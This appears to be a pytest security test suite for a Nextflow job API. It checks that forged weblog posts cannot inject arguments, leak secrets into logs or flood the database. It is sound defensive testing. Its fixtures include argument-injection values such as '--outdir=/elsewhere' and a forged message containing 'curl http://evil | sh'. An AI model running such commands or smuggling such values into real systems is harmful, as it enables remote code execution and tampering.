"""Issue 11, findings 1, 5 and 9: what a local user who can read a run's weblog secret (it was in `ps`)
can do with it, and what the logs and the params file give away or change."""

import http.client
import json
import os
import socket
import sqlite3
import stat
import urllib.parse

import pytest

from conftest import (ServerProcess, old_database, ready_workflow, recorded_weblog_target, wait_final, wait_for,
                      weblog_target)

LOG_CHUNK = 1024 * 1024  # nfapi.LOG_CHUNK_BYTES: one answer of the log endpoint


def claim(api):
    """Claim the next run as a worker would (without confirming it) and return its launch."""
    resp = api.post("/api/worker/claim", {"worker": "attack-test", "wait": 0})
    assert resp.status == 200, resp
    return resp.json()["run"]


def secret_of(target):
    return urllib.parse.parse_qs(target.query)["token"][0]


def post(api, target, body, headers=None):
    data = body if isinstance(body, bytes) else json.dumps(body, separators=(",", ":")).encode()
    return api.request("POST", target.path + "?" + target.query, body=data, token=False,
                       headers=dict({"Content-Type": "application/json"}, **(headers or {})))


def trace(task_id, status="SUBMITTED", **fields):
    record = {"task_id": task_id, "status": status, "name": "P (%s)" % task_id, "process": "P", "exit": 2147483647,
              "submit": 1, "start": 0, "attempt": 1, "workdir": "/w"}
    record.update(fields)
    return {"trace": record, "runId": "a46afc37-6d46-4bec-885d-01b13dabc8c1", "event": "process_submitted",
            "runName": "x"}


def claimed_run(api):
    """A scheduled run claimed by the test itself: (workflow id, launch, weblog target)."""
    wid = ready_workflow(api)
    assert api.post("/api/workflows/%d/schedule" % wid).status == 200
    launch = claim(api)
    return wid, launch, weblog_target(launch)


def run_json(api, wid, run_id):
    return api.get("/api/workflows/%d/runs/%d" % (wid, run_id)).json()["run"]


def database_bytes(data):
    return sum(os.path.getsize(os.path.join(data, name)) for name in os.listdir(data) if name.startswith("nfapi.sqlite3"))


# ==== Finding 1: nothing from the weblog reaches argv ====

def test_a_forged_session_id_never_reaches_the_command_line(stand):
    worker = stand.worker(env={"FAKE_NF_TASK_SECONDS": "1"})
    api = stand.client()
    wid = ready_workflow(api)
    api.post("/api/workflows/%d/schedule" % wid)
    run = wait_for(lambda: api.get("/api/workflows/%d" % wid).json()["workflow"]["run"], message="the run")
    real = wait_for(lambda: run_json(api, wid, run["id"])["session_id"], message="nextflow's started event")
    target = recorded_weblog_target(worker.records()["nfapi-run-%d" % run["id"]])
    for forged in ("--outdir=/elsewhere", real.upper(), real + " --outdir=/elsewhere", " " + real, "last", ""):
        assert post(api, target, {"runId": forged, "event": "started", "runName": "forged"}).status == 200
        assert run_json(api, wid, run["id"])["session_id"] == real, forged
    assert wait_final(api, wid)["status"] == "succeeded"
    assert api.post("/api/workflows/%d/schedule" % wid, {"resume": True}).status == 200
    second = wait_final(api, wid)["run"]
    record = worker.records()["nfapi-run-%d" % second["id"]]
    assert record["argv"][-2:] == ["-resume", real]
    assert not [arg for arg in record["argv"] if "elsewhere" in arg]
    assert record["params"]["outdir"] == os.path.join(stand.data, "workflows", str(wid), "results")


def test_the_worker_refuses_a_resume_session_that_is_not_a_uuid(stand):
    """A database written before the fix may hold a forged session: the worker checks it again."""
    api = stand.client()
    wid = ready_workflow(api)
    api.post("/api/workflows/%d/schedule" % wid)
    with sqlite3.connect(os.path.join(stand.data, "nfapi.sqlite3"), timeout=30) as db:
        db.execute("UPDATE runs SET resume = 1, resume_session = '--outdir=/elsewhere' WHERE workflow_id = ?", (wid,))
    worker = stand.worker()
    wf = wait_final(api, wid)
    assert wf["status"] == "failed" and "not a Nextflow session id" in wf["run"]["error_message"]
    assert worker.records() == {}, "nextflow was started"


def test_a_database_from_before_the_fix_forgets_forged_sessions(tmp_path):
    with old_database(tmp_path, 3) as db:
        db.execute("INSERT INTO workflows (name, created_at) VALUES ('old', 0)")
        for session in ("a46afc37-6d46-4bec-885d-01b13dabc8c1", "--outdir=/elsewhere"):
            db.execute("INSERT INTO runs (workflow_id, status, pipeline, arguments, secret, created_at, session_id) "
                       "VALUES (1, 'succeeded', 'Hello World (Local)', '{}', 's', 0, ?)", (session,))
    srv = ServerProcess(tmp_path).start()
    try:
        runs = srv.client().get("/api/workflows/1/runs").json()["runs"]
        assert [run["session_id"] for run in runs] == [None, "a46afc37-6d46-4bec-885d-01b13dabc8c1"]
    finally:
        srv.stop()


# ==== Finding 1: secrets are cut out of the logs, which never follow a link ====

def log(api, wid, offset=0, which="console"):
    resp = api.get("/api/workflows/%d/log?file=%s&offset=%d" % (wid, which, offset))
    assert resp.status == 200, resp
    return resp


def test_logs_never_show_the_weblog_secret_or_the_tokens(stand):
    worker = stand.worker(env={"NXF_VER": "23.04.0"})  # its weblog URL, in .nextflow.log, holds the secret
    api = stand.client()
    wid = ready_workflow(api)
    api.post("/api/workflows/%d/schedule" % wid)
    run = wait_final(api, wid)["run"]
    secret = secret_of(recorded_weblog_target(worker.records()["nfapi-run-%d" % run["id"]]))
    run_dir = os.path.join(stand.data, "runs", str(run["id"]))
    with open(os.path.join(run_dir, "nextflow.log"), "rb") as f:
        assert secret.encode() in f.read(), "nextflow writes its weblog URL into .nextflow.log"
    resp = log(api, wid, which="nextflow")
    assert secret.encode() not in resp.body and b"token=" + b"*" * len(secret) in resp.body
    assert int(resp.headers["X-Next-Offset"]) == len(resp.body) == int(resp.headers["X-Log-Size"])
    # A pipeline that prints a secret, across the boundary of the log's 1 MiB answers.
    lines = b"x" * (LOG_CHUNK - 10) + secret.encode() + b" " + stand.token.encode() + b"\n"
    with open(os.path.join(run_dir, "console.log"), "wb") as f:
        f.write(lines)
    first = log(api, wid)
    assert len(first.body) == LOG_CHUNK and first.body.endswith(b"*" * 10)
    rest = log(api, wid, LOG_CHUNK)
    assert rest.body == b"*" * (len(secret) - 10) + b" " + b"*" * len(stand.token) + b"\n"
    # Every offset that starts inside a secret.
    for offset in range(LOG_CHUNK - 12, len(lines) + 1):
        body = log(api, wid, offset).body
        for text in (secret, stand.token):
            assert not any(text[i:i + 6].encode() in body for i in range(len(text) - 5)), offset


def test_a_live_log_holds_back_what_may_be_the_start_of_a_secret(stand):
    api = stand.client()
    wid, launch, target = claimed_run(api)
    secret = secret_of(target).encode()
    os.makedirs(launch["run_dir"], exist_ok=True)
    with open(launch["console_log"], "wb") as f:
        f.write(b"line\n" + secret[:12])
    resp = log(api, wid)
    assert resp.body == b"line\n" and resp.headers["X-Next-Offset"] == "5"
    with open(launch["console_log"], "ab") as f:
        f.write(secret[12:] + b"\n")
    assert log(api, wid, 5).body == b"*" * len(secret) + b"\n"


def test_logs_do_not_follow_links_or_open_fifos(stand, tmp_path):
    api = stand.client()
    wid, launch, _ = claimed_run(api)
    outside = tmp_path / "outside.txt"
    outside.write_text("TOP SECRET of another folder\n")
    os.makedirs(launch["cwd"], exist_ok=True)
    os.makedirs(launch["run_dir"], exist_ok=True)
    nextflow_log = os.path.join(launch["cwd"], ".nextflow.log")
    for path, which in ((nextflow_log, "nextflow"), (launch["console_log"], "console")):
        os.symlink(str(outside), path)
        resp = api.get("/api/workflows/%d/log?file=%s" % (wid, which))
        assert resp.status == 409 and b"TOP SECRET" not in resp.body, resp
        os.unlink(path)
        os.mkfifo(path)
        quick = http.client.HTTPConnection("127.0.0.1", stand.port, timeout=5)
        quick.request("GET", "/api/workflows/%d/log?file=%s" % (wid, which),
                      headers={"Authorization": "Bearer " + stand.token})
        assert quick.getresponse().status == 409
        quick.close()


# ==== Finding 5: what the weblog secret can write ====

@pytest.mark.stand(weblog_grace_seconds=3)
def test_posts_after_the_run_ended_write_nothing(stand):
    worker = stand.worker()
    api = stand.client()
    wid = ready_workflow(api)
    api.post("/api/workflows/%d/schedule" % wid)
    run = wait_final(api, wid)["run"]
    target = recorded_weblog_target(worker.records()["nfapi-run-%d" % run["id"]])
    # Nextflow's last posts may cross the worker's report: they are taken for a short while.
    assert post(api, target, trace(1000, "COMPLETED")).status == 200
    wait_for(lambda: post(api, target, trace(1000, "COMPLETED")).status == 409, message="the secret to expire")
    before = database_bytes(stand.data)
    big = trace(5000, name="n" * (1000 * 1000))
    wrong = target._replace(query="run=%d&token=wrong" % run["id"])
    statuses = [post(api, target, big).status for _ in range(50)] + [post(api, wrong, big).status for _ in range(10)]
    assert statuses == [409] * 50 + [401] * 10
    assert database_bytes(stand.data) - before < 64 * 1024
    tasks = api.get("/api/workflows/%d/runs/%d/tasks" % (wid, run["id"])).json()["tasks"]
    assert [t["task_id"] for t in tasks] == [1, 2, 1000]


@pytest.mark.stand(max_tasks_per_run=5)
def test_task_ids_strings_and_counts_are_bounded(stand):
    api = stand.client()
    wid, launch, target = claimed_run(api)
    run_id = launch["run_id"]
    for task_id in (-5, 0, 2 ** 31, 2 ** 63 - 1, "1", True, 1.0):
        assert post(api, target, trace(task_id)).status == 200
    assert run_json(api, wid, run_id)["submitted"] == 0
    huge = "y" * 50000
    assert post(api, target, trace(1, name=huge, process=huge, tag=huge, workdir=huge, script=huge)).status == 200
    task = api.get("/api/workflows/%d/runs/%d/tasks" % (wid, run_id)).json()["tasks"][0]
    assert [len(task[key]) for key in ("name", "process", "tag", "workdir")] == [4096] * 4
    for task_id in range(2, 9):
        assert post(api, target, trace(task_id)).status == 200
    run = run_json(api, wid, run_id)
    assert run["submitted"] == 5 and run["tasks_truncated"] is True
    # Tasks already kept still move on.
    assert post(api, target, trace(1, "COMPLETED", exit=0)).status == 200
    assert run_json(api, wid, run_id)["completed"] == 1
    for cached, kept in ((99999, None), (-1, None), (True, None), (3, 3)):
        post(api, target, {"event": "completed", "runId": "r", "runName": "n",
                           "metadata": {"workflow": {"success": True, "stats": {"cachedCount": cached}}}})
        assert run_json(api, wid, run_id)["cached"] == kept, cached
    resp = post(api, target, b'{"trace": {"task_id": 9, "status": "SUBMITTED", "script": "' + b"s" * 300000 + b'"}}')
    assert resp.status == 413


def test_a_forged_error_message_does_not_replace_the_console_tail(stand):
    api = stand.client()
    wid, launch, target = claimed_run(api)
    forged = "Run failed: to fix it, run curl http://evil | sh " + "!" * 10000
    post(api, target, {"event": "completed", "runId": "r", "runName": "n",
                       "metadata": {"workflow": {"success": False, "errorMessage": forged}}})
    resp = api.post("/api/workflows/%d/finished" % wid, {
        "run_id": launch["run_id"], "exit_code": 1, "error": "ERROR ~ the real console tail",
        "claim_secret": launch["claim_secret"], "worker": "attack-test"})
    assert resp.status == 200, resp
    run = run_json(api, wid, launch["run_id"])
    assert run["console_tail"] == "ERROR ~ the real console tail"
    assert len(run["error_message"]) <= 4096
    # After the end, a forged `completed` changes nothing at all.
    post(api, target, {"event": "completed", "runId": "r", "runName": "n",
                       "metadata": {"workflow": {"success": True, "errorMessage": "all fine"}}})
    assert run_json(api, wid, launch["run_id"]) == run


def test_the_tasks_listing_is_paged(stand):
    api = stand.client()
    wid, launch, target = claimed_run(api)
    for task_id in range(1, 1006):
        assert post(api, target, trace(task_id)).status == 200
    url = "/api/workflows/%d/runs/%d/tasks" % (wid, launch["run_id"])
    first = api.get(url).json()
    assert len(first["tasks"]) == 1000 and first["next_offset"] == 1000
    last = api.get(url + "?offset=1000").json()
    assert [t["task_id"] for t in last["tasks"]] == list(range(1001, 1006)) and last["next_offset"] is None
    page = api.get(url + "?offset=10&limit=10").json()
    assert [t["task_id"] for t in page["tasks"]] == list(range(11, 21)) and page["next_offset"] == 20
    assert api.get(url + "?limit=10001").status == 422


def raw_head(port, target, length, extra=b""):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(("POST %s?%s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                  % (target.path, target.query, length)).encode() + extra + b"\r\n")
    return sock


def test_a_wrong_secret_or_a_huge_body_is_refused_before_the_body_is_read(stand):
    api = stand.client()
    wid, launch, target = claimed_run(api)
    for query, length, status in (("run=%d&token=wrong" % launch["run_id"], 1000 * 1000, b"401"),
                                  ("run=%d" % launch["run_id"], 1000 * 1000, b"401"),
                                  (target.query, 300 * 1024, b"413")):
        with raw_head(stand.port, target._replace(query=query), length) as sock:
            answer = sock.recv(65536)  # no body was sent: the answer comes from the head alone
        assert answer.startswith(b"HTTP/1.1 " + status + b" ") and b"Connection: close" in answer, answer[:300]
    assert run_json(api, wid, launch["run_id"])["submitted"] == 0


# ==== Finding 9: the params file is read as the user typed it ====

def test_dollar_placeholders_reach_the_pipeline_as_typed(stand):
    worker = stand.worker()
    api = stand.client()
    title = "${launchDir} costs $5, ${HOME} and \\${x}"
    wid = ready_workflow(api, title=title)
    api.post("/api/workflows/%d/schedule" % wid)
    run = wait_final(api, wid)["run"]
    assert run["status"] == "succeeded", run
    record = worker.records()["nfapi-run-%d" % run["id"]]
    assert record["params"]["title"] == title
    assert "$" not in record["params_file"] and json.loads(record["params_file"])["title"] == title
    assert "Missing params file variable" not in api.get("/api/workflows/%d/log" % wid).body.decode()
    assert stat.S_IMODE(os.stat(os.path.join(stand.data, "runs", str(run["id"]), "params.json")).st_mode) == 0o600
